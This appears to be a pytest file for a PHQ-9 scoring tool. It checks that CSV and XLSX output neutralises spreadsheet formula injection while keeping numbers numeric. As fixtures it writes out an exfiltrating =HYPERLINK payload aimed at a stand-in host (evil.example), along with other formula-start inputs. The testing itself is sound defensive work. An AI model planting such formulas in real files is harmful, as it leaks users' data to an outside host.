"""alliance-kit score output opened in a spreadsheet (issue 15, item 5): input text never comes
out as a live formula, in CSV or XLSX, and numbers stay numbers in XLSX."""

from __future__ import annotations

import csv

import pandas as pd
import pytest
from click.testing import CliRunner
from openpyxl import load_workbook

from alliance_kit.cli import cli
from alliance_kit.engine.cells import neutralize_array, neutralize_text

HYPERLINK = '=HYPERLINK("http://evil.example/?d="&A1,"click")'
PHQ_HEADER = ",".join(str(i) for i in range(1, 10))


def run(kit, *args):
    return CliRunner().invoke(cli, [str(a) for a in args], obj=kit, catch_exceptions=False)


def write_input(tmp_path):
    source = tmp_path / "phq.csv"
    rows = [f'client,note,change,{PHQ_HEADER}',
            f'c1,"{HYPERLINK.replace(chr(34), chr(34) * 2)}",-3,1,1,1,1,1,0,0,0,0',
            'c2,+1+cmd,+2,3,3,3,3,3,3,3,3,3',
            'c3,@SUM(A1),-2.5,0,0,0,0,0,0,0,0,0',
            'c4,plain - text,7,,1,1,1,1,1,1,1,1']
    source.write_text("\n".join(rows) + "\n", encoding="utf-8")
    return source


def test_csv_output_neutralizes_formula_text_and_keeps_numbers(kit, tmp_path):
    output = tmp_path / "scored.csv"
    result = run(kit, "score", "phq-9", write_input(tmp_path), "-o", output)
    assert result.exit_code == 0, result.output
    rows = list(csv.DictReader(output.open(encoding="utf-8", newline="")))
    assert [r["note"] for r in rows] == ["'" + HYPERLINK, "'+1+cmd", "'@SUM(A1)",
                                         "plain - text"]
    # plain numbers, negative ones too, are not touched
    assert [r["change"] for r in rows] == ["-3", "+2", "-2.5", "7"]
    assert [r["total"] for r in rows] == ["5", "27", "0", "9"]


def test_stdout_csv_is_neutralized_too(kit, tmp_path):
    result = run(kit, "score", "phq-9", write_input(tmp_path))
    assert result.exit_code == 0
    assert "'=HYPERLINK(" in result.stdout
    assert ",=HYPERLINK(" not in result.stdout and '"=HYPERLINK(' not in result.stdout


def test_xlsx_output_has_no_formula_and_numbers_are_numbers(kit, tmp_path):
    output = tmp_path / "scored.xlsx"
    result = run(kit, "score", "phq-9", write_input(tmp_path), "-o", output)
    assert result.exit_code == 0, result.output
    sheet = load_workbook(output).active
    cells = [cell for row in sheet.iter_rows() for cell in row]
    assert not [c.coordinate for c in cells if c.data_type == "f"], "a formula was written"
    header = [c.value for c in next(sheet.iter_rows())]
    rows = [dict(zip(header, [c for c in row], strict=True))
            for row in sheet.iter_rows(min_row=2)]
    assert rows[0]["note"].value == "'" + HYPERLINK and rows[0]["note"].data_type == "s"
    # item answers (read from CSV as text) and other plain numbers are numbers in XLSX
    assert rows[0]["1"].value == 1 and rows[0]["1"].data_type == "n"
    assert rows[0]["change"].value == -3 and rows[2]["change"].value == -2.5
    assert rows[0]["total"].value == 5 and rows[0]["total"].data_type == "n"
    assert rows[3]["1"].value is None  # blank stays blank
    assert rows[0]["client"].value == "c1"


def test_xlsx_keeps_leading_zero_ids_as_text(kit, tmp_path):
    source = tmp_path / "ids.csv"
    source.write_text(f"client,{PHQ_HEADER}\n007,1,1,1,1,1,1,1,1,1\n", encoding="utf-8")
    output = tmp_path / "ids.xlsx"
    assert run(kit, "score", "phq-9", source, "-o", output).exit_code == 0
    row = [c.value for c in list(load_workbook(output).active.iter_rows(min_row=2))[0]]
    assert row[0] == "007" and row[1] == 1


def test_column_names_are_neutralized(kit, tmp_path):
    source = tmp_path / "names.csv"
    source.write_text(f"=cmd(),{PHQ_HEADER}\nx,1,1,1,1,1,1,1,1,1\n", encoding="utf-8")
    output = tmp_path / "names.csv.out.csv"
    assert run(kit, "score", "phq-9", source, "-o", output).exit_code == 0
    assert output.read_text(encoding="utf-8").startswith("'=cmd(),1,")


def test_parquet_output_keeps_cells_as_they_are(kit, tmp_path):
    output = tmp_path / "scored.parquet"
    assert run(kit, "score", "phq-9", write_input(tmp_path), "-o", output).exit_code == 0
    assert pd.read_parquet(output)["note"].iloc[0] == HYPERLINK


def test_help_says_so(kit):
    text = run(kit, "score", "--help").output
    assert "formula" in text and "leading '" in text
    assert "XLSX keeps numbers as numbers" in text


@pytest.mark.parametrize("cell", ["=1+1", "+A1", "-A1", "@x", "\tx", "\rx", "-", "+"])
def test_formula_starts_are_neutralized_alike_in_both_forms(cell):
    import pyarrow as pa

    assert neutralize_text(cell) == "'" + cell
    assert neutralize_array(pa.array([cell, "", None])).to_pylist() == ["'" + cell, "", None]


@pytest.mark.parametrize("cell", ["-1", "+2", "-2.5", " -3 ", "1e-3", "-.5", "x=1", ""])
def test_plain_numbers_and_other_text_stay(cell):
    import pyarrow as pa

    assert neutralize_text(cell) == cell
    assert neutralize_array(pa.array([cell])).to_pylist() == [cell]
